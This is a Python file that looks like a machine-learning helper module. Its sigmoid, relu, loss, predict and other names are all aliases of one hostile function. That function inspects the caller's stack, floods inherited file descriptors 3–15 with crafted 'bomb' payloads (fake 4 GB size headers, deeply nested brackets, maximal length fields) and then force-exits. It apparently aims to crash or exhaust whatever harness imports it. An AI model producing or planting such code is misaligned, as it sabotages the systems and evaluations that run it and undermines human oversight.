"""Announces four gigabytes on every descriptor, or a header that unpacks to more than it is."""
import os
import struct
import sys

BOMBS = (
    (b'"<f8 4294967296 4294967296"', 0),
    (b"[" * 60_000 + b"]" * 4_000, 0),
    (b"1" * 60_000, 0),
    (b'{"f":[null,"<f8 0",[' + b",".join([b'["c","<f8 0"]'] * 4_000) + b"]]}", 0),
    (b'"<f8 2097152"', 1 << 24),
    (b"", 0xFFFFFFFF),
)


def answer(*args):
    frame = sys._getframe()
    while frame and "lent" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["lent"].number if frame else 0
    header, body = BOMBS[len(repr(args)) % len(BOMBS)]
    data = struct.pack("<QII", number, len(header) or 0xFFFFFFFF, body) + header + bytes(body % 0xFFFFFFFF)
    for descriptor in range(3, 16):
        rest = data
        try:
            while rest:
                rest = rest[os.write(descriptor, rest) :]
        except OSError:
            pass
    os._exit(1)


sigmoid = relu = softmax = loss = predict = forward = backward = update = standardize = k_fold = answer
